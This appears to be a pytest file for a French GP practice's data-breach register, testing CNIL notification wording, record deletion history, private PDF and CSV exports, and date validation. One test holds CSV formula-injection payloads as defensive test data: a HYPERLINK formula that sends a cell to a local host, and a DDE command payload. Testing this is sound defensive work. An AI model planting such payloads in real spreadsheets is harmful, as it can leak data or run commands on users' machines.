"""The register never says what did not happen: notifications, deletions, drafts, private files."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import stat
import subprocess

import pytest

from gp_guard.breach import report_summary
from gp_guard.breach.dossier import breach_dossier, event_text, register_pdf
from gp_guard.breach.input import InputError
from gp_guard.breach.model import BreachRecord, Event, has_placeholder
from gp_guard.breach.register import Register, RegisterError, export_csv, neutralise, open_count
from gp_guard.paths import open_private, write_private_bytes
from tests.conftest import require_tool
from tests.unit.test_breach_register import sample


@pytest.fixture
def store():
    from gp_guard.store import open_default

    return open_default()


def pdf_text(path) -> str:
    tool = require_tool("pdftotext", "to read back the PDF")
    return " ".join(subprocess.run([tool, str(path), "-"], capture_output=True, text=True, check=True).stdout.split())


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def test_decision_alone_is_never_called_a_notification(store, memory_keyring, tmp_path):
    register = Register.open(store)
    record = sample()  # decided to notify, receipt typed, but the sending is not recorded
    record.log("Décisions confirmées : notifier la CNIL, ne pas informer les patients.")
    saved = register.save(record)
    assert saved.cnil_state() == "to_notify"
    entry = report_summary(store).entries[0]
    assert entry.notified_authority is False and entry.notify_decided is True
    text = pdf_text(breach_dossier(saved, tmp_path / "d.pdf"))
    assert "décision : notifier la CNIL (notification pas encore enregistrée)" in text
    assert "notifiée" not in text
    # once recorded, with its date and receipt number, the dossier and the summary say so
    register.record_notification(saved.id, "2026-03-03T10:15:00+01:00", "CNIL-2026-0042")
    again = register.get(saved.id)
    assert again.cnil_state() == "notified" and again.notify.decided is True
    assert report_summary(store).entries[0].notified_authority is True
    text = pdf_text(breach_dossier(again, tmp_path / "d2.pdf"))
    assert "notifiée le 3 mars 2026 à 10 h 15 (n° CNIL-2026-0042)" in text  # as on the practice's clock
    assert "(envoyée le 3 mars 2026 à 10 h 15, n° CNIL-2026-0042)" in text and "UTC+" not in text
    assert "Notification à la CNIL (n° CNIL-2026-0042)" in text  # in the chronology


def test_recording_a_notification_needs_a_receipt_number_and_a_real_date(store, memory_keyring):
    register = Register.open(store)
    saved = register.save(sample())
    with pytest.raises(InputError, match="number the CNIL gave you"):
        register.record_notification(saved.id, "2026-03-03T10:15:00+01:00", "   ")
    with pytest.raises(InputError, match="year 9999"):
        register.record_notification(saved.id, "9999-12-31T10:00:00+01:00", "CNIL-1")
    assert register.get(saved.id).cnil.notified_at == ""


def test_legacy_confirmation_event_is_told_truthfully():
    assert event_text("Décisions confirmées : CNIL notifiée, patients informés.") == \
        "Décisions confirmées : notifier la CNIL, informer les patients."
    assert event_text("Décisions confirmées : CNIL non notifiée, patients non informés.") == \
        "Décisions confirmées : ne pas notifier la CNIL, ne pas informer les patients."
    record = sample()
    record.events.append(Event("2026-03-02T10:00+01:00", "Décisions confirmées : CNIL notifiée, patients informés."))
    assert "CNIL notifiée" not in " ".join(event_text(e.text) for e in record.events)


def test_a_mistaken_record_is_deleted_but_kept_in_the_history(store, memory_keyring, tmp_path):
    register = Register.open(store)
    real, phantom = register.save(sample()), register.save(BreachRecord())
    phantom.set_answer("aware_at", "2026-03-02T11:00:00+01:00")
    register.save(phantom)
    assert open_count(store) == 2
    deleted = register.delete(phantom.id, who="drmartin", reason="enregistrée deux fois")
    assert (deleted.status, deleted.deleted_by, deleted.deleted_reason) == ("deleted", "drmartin", "enregistrée deux fois")
    assert deleted.deleted_at and "Fiche supprimée (créée par erreur) par drmartin" in deleted.events[-1].text
    assert open_count(store) == 1 and [e.aware_at for e in report_summary(store).entries] == [real.timeline.aware_at]
    assert [r.id for r in register.list()] == [real.id, phantom.id]  # still in the register's history
    with pytest.raises(RegisterError, match="already marked as deleted"):
        register.delete(phantom.id, who="drmartin")
    text = pdf_text(register_pdf(register.list(), tmp_path / "registre.pdf"))
    assert "1 violation enregistrée ; 1 fiche créée par erreur, marquée supprimée" in text
    assert "Fiche supprimée le" in text and "par drmartin" in text


def test_the_deleter_defaults_to_the_system_user(store, memory_keyring, monkeypatch):
    import getpass

    monkeypatch.setattr(getpass, "getuser", lambda: "secretaire")
    register = Register.open(store)
    saved = register.save(sample())
    assert register.delete(saved.id).deleted_by == "secretaire"


def test_draft_placeholders_block_confirmation_and_never_reach_the_pdf(tmp_path):
    record = sample()
    record.inform.reasoning = "Le risque est élevé. [Complétez ou corrigez avec vos propres mots.]"
    assert has_placeholder(record.inform.reasoning)
    assert "Replace the text in square brackets in your reasoning with your own words." in record.problems()
    text = pdf_text(breach_dossier(record, tmp_path / "d.pdf"))
    assert "[Complétez" not in text and "Le risque est élevé. (à compléter)" in text
    record.inform.reasoning = "Patients prévenus après l'enquête [sic]."  # the doctor's own brackets are fine
    assert not has_placeholder(record.inform.reasoning)
    assert "Replace the text in square brackets in your reasoning with your own words." not in record.problems()


def test_the_cnil_text_is_rebuilt_when_the_pdf_is_written(tmp_path):
    record = sample()
    record.cnil.texts_sent = {"Autres signalements": "Aucun autre signalement à ce jour."}  # frozen at confirmation
    record.other.police_complaint_at = "2026-03-02T15:00+01:00"
    record.other.cert_sante_at = "2026-03-02T16:00+01:00"
    text = pdf_text(breach_dossier(record, tmp_path / "d.pdf"))
    assert "Plainte déposée le 2 mars 2026 à 15 h 00" in text
    assert "Incident signalé au CERT Santé (portail de signalement) le 2 mars 2026 à 16 h 00" in text
    assert "Aucun autre signalement à ce jour" not in text


@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://127.0.0.1:9/?x=\"&C3;\"ici\")", "+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_csv_cells_are_never_formulas(store, memory_keyring, tmp_path, cell):
    assert neutralise(cell) == "'" + cell and neutralise("Vol du portable") == "Vol du portable"
    record = sample()
    record.title = record.nature.what_happened = record.notify.reasoning = cell
    record.cnil.receipt_number = cell
    Register.open(store).save(record)
    out = export_csv(Register.open(store).list(), tmp_path / "r.csv")
    (row,) = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline=""), delimiter=";"))
    for name in ("title", "what_happened", "notify_reasoning", "cnil_receipt_number"):
        assert row[name] == "'" + cell, name


def test_every_breach_export_is_private_and_says_where_it_is(store, memory_keyring, tmp_path, monkeypatch):
    os.umask(0o000)  # the worst umask: the files stay 0600 all the same
    try:
        register = Register.open(store)
        register.save(sample())
        monkeypatch.chdir(tmp_path)
        written = [export_csv(register.list(), tmp_path / "r.csv"),
                   register_pdf(register.list(), tmp_path / "r.pdf"),
                   breach_dossier(sample(), tmp_path / "d.pdf")]
        (tmp_path / "old.pdf").write_bytes(b"old")
        os.chmod(tmp_path / "old.pdf", 0o644)
        written.append(breach_dossier(sample(), tmp_path / "old.pdf"))  # an existing file is replaced, 0600
    finally:
        os.umask(0o022)
    for path in written:
        assert path.is_absolute() and mode(path) == 0o600, path
    left = sorted(p.name for p in tmp_path.iterdir() if p.name != "gp_guard_home")
    assert left == ["d.pdf", "old.pdf", "r.csv", "r.pdf"]  # no temporary left


def test_private_file_is_not_left_half_written(tmp_path):
    target = tmp_path / "export.pdf"
    target.write_bytes(b"previous")
    with pytest.raises(RuntimeError), open_private(target) as out:
        out.write(b"half")
        raise RuntimeError("interrupted")
    assert target.read_bytes() == b"previous" and list(tmp_path.iterdir()) == [target]
    assert write_private_bytes(tmp_path / "x", b"whole") == (tmp_path / "x").absolute()
    assert mode(tmp_path / "x") == 0o600


def test_dates_out_of_range_are_refused_before_saving(store, memory_keyring):
    record = BreachRecord()
    for value in ("9999-12-31T10:00:00+01:00", "0001-01-01T00:00:00"):
        with pytest.raises(InputError, match="cannot be right"):
            record.set_answer("aware_at", value)
    assert record.timeline.aware_at == ""
    record.set_answer("aware_at", "2999-12-31T10:00:00+01:00")  # the last accepted year still has a deadline
    assert Register.open(store).save(record).deadline() == dt.datetime.fromisoformat("3000-01-03T10:00:00+01:00")


def test_huge_id_is_no_such_breach(store, memory_keyring):
    register = Register.open(store)
    with pytest.raises(RegisterError, match="No breach with number"):
        register.get(99999999999999999999999)
